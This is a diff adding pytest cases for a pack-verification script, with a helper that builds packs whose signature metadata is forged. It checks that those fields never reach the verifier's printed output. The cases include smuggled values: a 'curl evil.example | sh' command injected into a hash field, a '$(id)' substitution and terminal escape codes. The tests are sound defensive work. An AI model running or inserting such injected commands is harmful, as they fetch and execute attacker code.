@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import ast
 import io
+import json
 import subprocess
 import sys
 import zipfile
@@ -93,6 +94,64 @@ def test_the_script_says_sound_and_what_it_could_not_compare(
     known = verify_pack.sha256(files_of(file.read_bytes())["manifest.json"])
     assert verify_pack.main(["--expect", known.upper(), str(file)]) == 0
     assert "Not compared" not in capsys.readouterr().out
+
+
+SIGNED = {"algorithm": "ECDSA_SHA_256", "hash": "sha256", "key_id": "arn:aws:kms:x:1:key/a-1"}
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        {**SIGNED, "hash": "sha256 -verify k; curl evil.example | sh #"},
+        {**SIGNED, "key_id": "\x1b[2J"},
+        {**SIGNED, "key_id": "a\nSound"},
+        {**SIGNED, "algorithm": "$(id)"},
+        {**SIGNED, "more": "x"},
+        {},
+        5,
+        float("nan"),
+        "",
+    ],
+    ids=str,
+)
+def test_a_pack_that_was_made_up_puts_no_command_and_no_escape_into_the_verifiers_mouth(
+    told: object, pack: bytes, file: Path, capsys: pytest.CaptureFixture
+):
+    file.write_bytes(signed(pack, told, KEY))
+    assert verify_pack.main([str(file)]) == 1
+    said = capsys.readouterr().out
+    assert "openssl" not in said
+    assert "curl" not in said
+    assert "\x1b" not in said
+    file.write_bytes(signed(pack, SIGNED, KEY))
+    assert verify_pack.main([str(file)]) == 0
+    assert "openssl dgst -sha256 -verify signing-key.pem" in capsys.readouterr().out
+
+
+def test_a_signature_without_its_key_is_no_sound_pack(
+    pack: bytes, file: Path, capsys: pytest.CaptureFixture
+):
+    file.write_bytes(signed(pack, SIGNED, {}))
+    assert verify_pack.main([str(file)]) == 1
+    assert capsys.readouterr().out.startswith("signing-key.pem: it is missing")
+
+
+KEY = {"signing-key.pem": b"key"}
+
+
+def signed(pack: bytes, told: object, more: dict[str, bytes]) -> bytes:
+    """The pack made up anew, consistent in itself, with what it tells of its signature."""
+    files = {**files_of(pack), **more}
+    manifest = json.loads(files["manifest.json"]) | {"signature": told}
+    for name, content in more.items():
+        manifest["files"][name] = {"bytes": len(content), "sha256": verify_pack.sha256(content)}
+    files["manifest.json"] = json.dumps(manifest).encode()
+    files |= {"manifest.sha256": verify_pack.sum_line(files["manifest.json"])}
+    files |= {"manifest.sig": b"signature"}
+    head = [name for name in verify_pack.HEAD if name in files]
+    return verify_pack.packed(
+        {name: files[name] for name in [*head, *sorted(set(files) - {*verify_pack.HEAD})]}
+    )
 
 
 def test_the_script_names_the_first_altered_file_and_line(
